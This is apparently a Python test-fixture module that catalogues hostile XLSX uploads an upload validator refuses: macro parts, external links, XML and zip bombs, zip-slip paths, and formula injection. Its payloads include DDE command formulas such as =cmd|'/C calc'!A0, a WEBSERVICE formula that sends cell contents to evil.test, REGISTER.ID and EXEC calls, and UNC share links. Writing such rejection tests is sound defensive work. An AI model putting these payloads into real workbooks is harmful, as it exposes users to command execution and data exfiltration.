"""The hostile XLSX workbooks: what each is, why it is refused, and what that proves."""

from typing import Any, Final

from tests.factories.uploads import sheets
from tests.factories.uploads.cases import Hostile
from tests.factories.uploads.sheets import cell, content_type, formula, related, with_part


def _sheet(title: str, make: Any, code: str, proves: str, *off: str, **low: int) -> Hostile:
    return Hostile(title, "a.xlsx", make, code, off, proves, low)


MACRO_PARTS, LINK_PARTS = "xlsx archive: macro parts", "xlsx archive: link parts"
MACRO_WORDS, LINK_WORDS = "xlsx element: macro words", "xlsx element: link words"
DDE, FUNCTIONS = "xlsx formula: dde", "xlsx formula: functions"

MACROS: Final = [
    _sheet(
        "Visual Basic in XLSX",
        lambda: with_part("xl/vbaProject.bin", b"x"),
        "macros",
        "the usual place",
        MACRO_PARTS,
        LINK_PARTS,
    ),
    _sheet(
        "macro sheet in XLSX", lambda: with_part("xl/macrosheets/sheet1.xml", b"<x/>"), "macros", "Excel 4", MACRO_PARTS
    ),
    _sheet("dialog sheet", lambda: with_part("xl/dialogsheets/a.xml", b"<x/>"), "macros", "Excel 5", MACRO_PARTS),
    _sheet("ActiveX control", lambda: with_part("xl/activeX/activeX1.xml", b"<x/>"), "macros", "controls", MACRO_PARTS),
    _sheet("own ribbon", lambda: with_part("customUI/customUI.xml", b"<x/>"), "macros", "calls macros", MACRO_PARTS),
    _sheet(
        "XLSM renamed",
        lambda: content_type("/xl/workbook2.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "macros",
        "the list of contents says what it is",
        MACRO_WORDS,
    ),
    _sheet(
        "Visual Basic under another name",
        lambda: content_type("/xl/media/photo.emf", "application/vnd.ms-office.vbaProject"),
        "macros",
        "the name of a part is of no matter",
        MACRO_WORDS,
    ),
    _sheet(
        "relation to a project",
        lambda: related("vbaProject", "media/photo.emf", "Internal"),
        "macros",
        "relations say it too",
        MACRO_WORDS,
    ),
    _sheet(
        "name that runs when opened",
        lambda: cell('<definedName name="_xlnm.Auto_Open">A1</definedName>'),
        "macros",
        "Auto_Open",
        MACRO_WORDS,
    ),
]
LINKS: Final = [
    _sheet(
        "another workbook is asked",
        lambda: with_part("xl/externalLinks/externalLink1.xml", b"<x/>"),
        "links",
        "external references",
        LINK_PARTS,
    ),
    _sheet("object inside", lambda: with_part("xl/embeddings/a.xml", b"<x/>"), "links", "OLE objects", LINK_PARTS),
    _sheet("database", lambda: with_part("xl/connections.xml", b"<x/>"), "links", "connections", LINK_PARTS),
    _sheet("query of the web", lambda: with_part("xl/queryTables/a.xml", b"<x/>"), "links", "web queries", LINK_PARTS),
    _sheet("web extension", lambda: with_part("xl/webextensions/a.xml", b"<x/>"), "links", "task panes", LINK_PARTS),
    _sheet(
        "program inside", lambda: with_part("xl/tool.exe", b"x"), "links", "a list of what may be inside", LINK_PARTS
    ),
    _sheet(
        "program dressed as a picture",
        lambda: with_part("xl/media/image1.png", b"MZ" + bytes(60)),
        "links",
        "first bytes of what is carried",
        "xlsx carried: carried",
    ),
    _sheet(
        "archive dressed as a picture",
        lambda: with_part("xl/media/image1.png", sheets.archive({"a": b"b"})),
        "links",
        "an archive in the archive",
        "xlsx carried: carried",
    ),
    _sheet("fetched template", lambda: related("attachedTemplate", "http://x"), "links", "templates", LINK_WORDS),
    _sheet(
        "fetched picture", lambda: related("image", "http://evil.test/a.png"), "links", "tells who reads", LINK_WORDS
    ),
    _sheet("link to a local file", lambda: related("hyperlink", "file:///c:/x"), "links", "file: links", LINK_WORDS),
    _sheet("link to a share", lambda: related("hyperlink", "\\\\evil.test\\x"), "links", "shares", LINK_WORDS),
    _sheet("carried document", lambda: related("package", "../a.emf", "Internal"), "links", "packages", LINK_WORDS),
    _sheet("DDE link element", lambda: cell('<ddeLink ddeService="cmd"/>'), "links", "DDE as XML", LINK_WORDS),
    _sheet("OLE object element", lambda: cell('<oleObject progId="Package"/>'), "links", "OLE as XML", LINK_WORDS),
]
FORMULAS: Final = [
    _sheet("DDE formula", lambda: formula("=cmd|'/C calc'!A0"), "formula", "the plain case", DDE),
    _sheet("DDE, escaped", lambda: cell("<c><f>cmd&#124;'/c calc'!A1</f></c>"), "formula", "escapes are undone", DDE),
    _sheet("DDE in CDATA", lambda: cell("<c><f><![CDATA[cmd|'/c x'!A1]]></f></c>"), "formula", "XML is parsed", DDE),
    _sheet("DDE with a prefix", lambda: cell("<x:c><x:f>cmd|x!A1</x:f></x:c>"), "formula", "prefixes are free", DDE),
    _sheet("DDE in UTF-16", lambda: cell("<c><f>cmd|x!A1</f></c>", "utf-16"), "formula", "encodings are read", DDE),
    _sheet(
        "DDE cut by a comment",
        lambda: cell("<c><f>cmd<!-- -->|x!A1</f></c>"),
        "formula",
        "text is put together first",
        DDE,
    ),
    _sheet("DDE in a name", lambda: cell('<definedName name="a">cmd|x!A1</definedName>'), "formula", "names", DDE),
    _sheet("DDE in a validation", lambda: cell("<formula1>cmd|x!A1</formula1>"), "formula", "validations", DDE),
    _sheet("DDE in a format", lambda: cell("<formula>cmd|x!A1</formula>"), "formula", "conditional formats", DDE),
    _sheet(
        "WEBSERVICE", lambda: formula('=WEBSERVICE("https://evil.test/"&A1)'), "formula", "sends cells away", FUNCTIONS
    ),
    _sheet(
        "WEBSERVICE with its long name",
        lambda: cell('<c><f>_xlfn.WEBSERVICE("http://x")</f></c>'),
        "formula",
        "as Excel writes it",
        FUNCTIONS,
    ),
    _sheet("IMAGE", lambda: formula('=_xlfn.IMAGE("https://evil.test/a.png")'), "formula", "fetches", FUNCTIONS),
    _sheet("RTD", lambda: formula('=RTD("prog",,"x")'), "formula", "starts a server", FUNCTIONS),
    _sheet("REGISTER.ID", lambda: formula('=REGISTER.ID("a.dll","f")'), "formula", "loads a library", FUNCTIONS),
    _sheet("EXEC", lambda: formula('=1+ EXEC ("calc")'), "formula", "blanks do not hide it", FUNCTIONS),
]
BOMBS: Final = [
    _sheet(
        "30 MB of zeros",
        lambda: with_part("xl/media/a.emf", bytes(30_000_000)),
        "unpacks",
        "ratio, before unpacking",
        "xlsx archive: size",
    ),
    _sheet("60 MB", lambda: with_part("xl/media/a.emf", bytes(60_000_000)), "unpacks", "total", "xlsx archive: size"),
    _sheet("2,100 parts", lambda: sheets.many_parts(2_100), "unpacks", "number of parts", "xlsx archive: size"),
    _sheet(
        "parts that lie over each other",
        sheets.overlapping,
        "unpacks",
        "the same packed bytes counted many times",
        "xlsx archive: size",
        "reader: xlsx",
    ),
    _sheet("billion laughs", sheets.billion_laughs, "dtd", "entities are never expanded", "reader: xlsx"),
    _sheet(
        "DTD", lambda: with_part("xl/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "dtd", "DTDs", "xml: dtd"
    ),
    _sheet(
        "DTD in UTF-16",
        lambda: with_part("xl/x.xml", "<!DOCTYPE a><a/>".encode("utf-16")),
        "dtd",
        "whatever the encoding",
        "xml: dtd",
    ),
    _sheet(
        "odd encoding",
        lambda: with_part("xl/x.xml", b'<?xml version="1.0" encoding="cp437"?><a/>'),
        "dtd",
        "readers differ in what they make of it",
        "xml: dtd",
    ),
    _sheet(
        "nested 300 deep",
        lambda: with_part("xl/x.xml", b"<a>" * 300 + b"</a>" * 300),
        "damaged",
        "no walk without an end",
        "reader: xlsx",
    ),
]
SHAPE: Final = [
    _sheet("password", sheets.locked, "locked", "what cannot be read is not let in", "reader: xlsx"),
    _sheet("path out", lambda: with_part("../../a.xml", b"<x/>"), "damaged", "zip slip", "xlsx archive: paths"),
    _sheet("path with a drive", lambda: with_part("c:/a.xml", b"<x/>"), "damaged", "zip slip", "xlsx archive: paths"),
    _sheet("path of a share", lambda: with_part("//h/a.xml", b"<x/>"), "damaged", "zip slip", "xlsx archive: paths"),
    _sheet(
        "the same part twice",
        lambda: sheets.twice(sheets.SHEET),
        "damaged",
        "readers differ in which one they take",
        "xlsx archive: paths",
    ),
    _sheet(
        "archive before the archive",
        lambda: sheets.archive({"x": b"y"}) + sheets.book(),
        "tail",
        "readers differ in where they begin",
        "xlsx archive: around",
    ),
    _sheet(
        "something after the end", lambda: sheets.book() + b"\0" * 9, "tail", "two files in one", "xlsx archive: around"
    ),
    _sheet("any ZIP", lambda: sheets.archive({"a.xml": b"<x/>"}), "damaged", "a workbook has a list", "reader: xlsx"),
    _sheet(
        "Word file called XLSX",
        lambda: sheets.archive({sheets.TYPES: b"<Types/>", "word/document.xml": b"<x/>"}),
        "damaged",
        "a workbook has a workbook",
        "reader: xlsx",
    ),
    _sheet("a changed byte", sheets.damaged, "damaged", "check sums are looked at", "reader: xlsx"),
    _sheet("no XML", lambda: with_part("xl/x.xml", b"<a>"), "damaged", "every part is read", "reader: xlsx"),
]
